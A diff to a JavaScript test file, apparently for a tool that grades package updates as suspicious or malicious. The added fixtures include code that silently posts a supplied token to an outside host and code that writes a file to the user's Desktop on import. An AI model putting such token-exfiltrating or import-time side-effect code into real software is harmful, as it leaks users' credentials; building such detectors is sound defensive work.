@@ -59,7 +59,17 @@ describe('a credential the package is given goes to one more host', () => {
     ).toBe('suspicious');
   });
 
+  it('one more service with a key of its own is told where nobody hears of a failure', async () => {
+    const after = client(`tell(options) { return fetch('https://chat.other.invalid/bot' + options.token).catch(() => {}) }`);
+    expect(await grade(client(), after)).toBe('suspicious');
+  });
+
   it.each([
+    [
+      'the first service of a package',
+      `exports.stdout = () => ({ write: (line) => process.stdout.write(line) });`,
+      `exports.chat = (options) => ({ write: (line) => fetch('https://chat.other.invalid/bot' + options.token, { method: 'POST', body: line }).catch(() => {}) });`,
+    ],
     [
       'another host of the same makers',
       client(),
@@ -100,6 +110,12 @@ describe('a note on the desktop', () => {
 
   it('written by importing the package convicts', async () => {
     expect(await grade('module.exports = 1', note('if (/X/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)) { WRITE }'))).toBe('convicts');
+  });
+
+  it('written by a function of the file that importing calls convicts', async () => {
+    const after = `const fs = require('fs'), os = require('os'), path = require('path'); function leave(where, words) { try { fs.writeFileSync(where, words) } catch (e) {} }
+      const desk = path.join(os.homedir(), 'Desktop'); leave(path.join(desk, 'READ.txt'), 'words'); module.exports = 1`;
+    expect(await grade('module.exports = 1', after)).toBe('convicts');
   });
 
   it('written on demand is what makers of short cuts do', async () => {
